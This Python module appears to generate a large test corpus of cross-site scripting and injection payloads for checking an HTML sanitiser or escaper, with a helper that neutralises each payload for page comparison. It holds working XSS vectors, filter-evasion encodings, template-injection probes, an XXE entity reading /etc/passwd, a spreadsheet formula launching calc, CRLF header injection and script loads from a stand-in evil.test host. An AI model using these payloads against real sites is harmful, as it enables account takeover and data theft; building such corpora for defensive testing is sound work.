"""Words that mean to be run: made of parts, so that each trick meets every other.

All of them call `alert`, each in its way. `plain` makes them mean nothing, sign for sign, so that a
page with the one and a page with the other should differ in nothing but these signs.
"""

from collections.abc import Iterable, Iterator
from itertools import product
from urllib.parse import quote

BREAKS = (
    "", '"', "'>", '">', "</textarea>", "</title>", "</script>", "</style>", "</option></select>",
    "</svg>", "-->", "]]>", "*/", '\\"', "`", "\u202e", "\u2028", "\x00", "%22%3E",
)  # fmt: skip
"""Ways out of wherever words may stand: an attribute, an element, a comment, a string."""

CALLS = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data=x onerror=alert(1)></object>",
    "<audio><source onerror=alert(1)></audio>",
    "<style onload=alert(1)></style>", "<link rel=stylesheet href=/favicon.svg onload=alert(1)>",
    "<x tabindex=1 autofocus onfocus=alert(1)>", "<x onpointerover=alert(1)>x</x>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    " onmouseover=alert(1) autofocus onfocus=alert(1) x=", " style=x onclick=alert`1` ",
)  # fmt: skip
"""What runs once it is markup."""

SCHEMES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "\x01javascript:alert(1)",
    "java\tscript:alert(1)", "javascript&colon;alert(1)",
    "&#x6A&#x61vascript:alert(1)", "javascript://%0aalert(1)",
    "data:text/html,<script>alert(1)</script>", "//evil.test/x.js",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "\\\\evil.test\\x.js",
)  # fmt: skip
CARRIERS = (
    "{}", "<a href='{}'>x</a>", "<iframe src='{}'></iframe>", "<form action='{}'><button>x</form>",
    "<meta http-equiv=refresh content='0;url={}'>", "<embed src='{}'>",
    "<svg><a xlink:href='{}'><text y=9>x</text></a></svg>", "<script src='{}'></script>",
    "' href='{}", "url('{}')",
)  # fmt: skip
"""Where an address is followed."""

DISGUISED = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\"'><svg onload=alert`1`>",
)

OTHERS = (
    "{{7*7}}{{alert(1)}}", "{% if 1 %}alert(1){% endif %}", "${alert(1)}", "#{alert(1)}",
    "<%= 7*7 %>", "{{''.__class__.__mro__}}", "{{ config }}", "%(title)s%n%s", "{0.__class__}",
    "{$alert(1)}",
    "';alert(1)//", '";alert(1)//', "\\';alert(1)//", "`;alert(1)//", "</script><script>alert(1)//",
    "1;alert(1)", '"}];alert(1)//', "\\u003cscript\\u003ealert(1)", "\\x3cscript\\x3ealert(1)",
    "<![CDATA[<script>alert(1)</script>]]>", "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
    "<x xmlns='http://www.w3.org/1999/xhtml' onclick=x>",
    "<script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>",
    "<!DOCTYPE x [<!ENTITY a 'b'>]>",
    '=HYPERLINK("javascript:alert(1)")', "+cmd|' /c calc'!A1", "@SUM(1)*alert(1)", "-1+alert(1)",
    "x\r\nATTACH:javascript:alert(1)", "x\nEND:VEVENT\nBEGIN:VEVENT", "x\r\nSet-Cookie: a=b",
    "x\r\n\r\n<script>alert(1)</script>", "00:00.000 --> 00:09.000\n<c.x onclick=alert(1)>x</c>",
    "<form id=main name=body><input name=innerHTML>", "<img name=currentScript id=text>",
    "<plaintext>", "<!--", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<select><template><img src=x onerror=alert(1)></template></select>", "<xmp><p title='</xmp>",
    "<style>@import'//evil.test/x.css';</style>", "<p style=background:url(//evil.test/x)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<table><td background=javascript:alert(1)>", "<isindex action=javascript:alert(1)>",
)  # fmt: skip
"""Other languages than HTML, and HTML where one parser reads another than the next."""

MEANS = "<>\"'&{}$%:=/`\\"


def disguises(words: str) -> Iterator[str]:
    """The same once more in ways that something on the way may take off again."""
    yield "".join(f"&#{ord(sign)};" for sign in words)
    yield "".join(f"&#x{ord(sign):x}" for sign in words)
    yield quote(words, safe="")
    yield quote(quote(words, safe=""), safe="")
    yield words.replace("<", "\\u003c").replace(">", "\\u003e")
    yield words.replace("<", "+ADw-").replace(">", "+AD4-")
    yield words.replace("<", "\uff1c").replace(">", "\uff1e").replace('"', "\uff02")
    yield words.replace("<", "\u2039").replace(">", "\u203a")
    yield words.replace("s", "\u017f")  # which is an S once it is a capital letter
    yield words.replace(">", ">\u0338")  # which NFC makes one sign
    yield "\u00ad".join(words)
    yield "\u200b".join(words)
    yield words.replace("<s", "<\x00s").replace("<i", "<\x00i")
    yield words.replace("<", "<\u0000")
    yield words.replace(" ", "/")
    yield words.replace(" ", "\x0c").replace("=", "\n=\t")
    yield words.replace("script", "scrscriptipt").replace("on", "oonn")
    yield words.replace("<", "<<").replace(">", "")
    yield words.swapcase().replace("ALERT", "alert")
    yield words[::-1]
    yield "\u202e" + words[::-1] + "\u202c"
    yield words.encode("utf-16-le").decode("latin-1")
    yield words.replace("alert", "al\\u0065rt").replace("(1)", "`1`")
    yield words.replace("alert(1)", "top[/al/.source+/ert/.source](1)")


def _all() -> Iterator[str]:
    yield from map("".join, product(BREAKS, CALLS))
    yield from (carrier.replace("{}", scheme) for carrier, scheme in product(CARRIERS, SCHEMES))
    yield from (each for words in DISGUISED for each in disguises(words))
    yield from OTHERS


PAYLOADS = tuple(dict.fromkeys(_all()))


def plain(words: str) -> str:
    """The words without a sign that means anything to any of these languages, as long as before."""
    for sign in MEANS:  # far faster than `translate`, and pages are long
        words = words.replace(sign, "x")
    return words


def together(payloads: Iterable[str], most: int, size=len, between: str = " ") -> Iterator[str]:
    """All of them in as few strings as there have to be, none of which is larger than `most`."""
    held: list[str] = []
    large = 0
    for payload in payloads:
        more = size(payload + between)
        if held and large + more > most:
            yield between.join(held)
            held, large = [], 0
        held.append(payload)
        large += more
    if held:
        yield between.join(held)
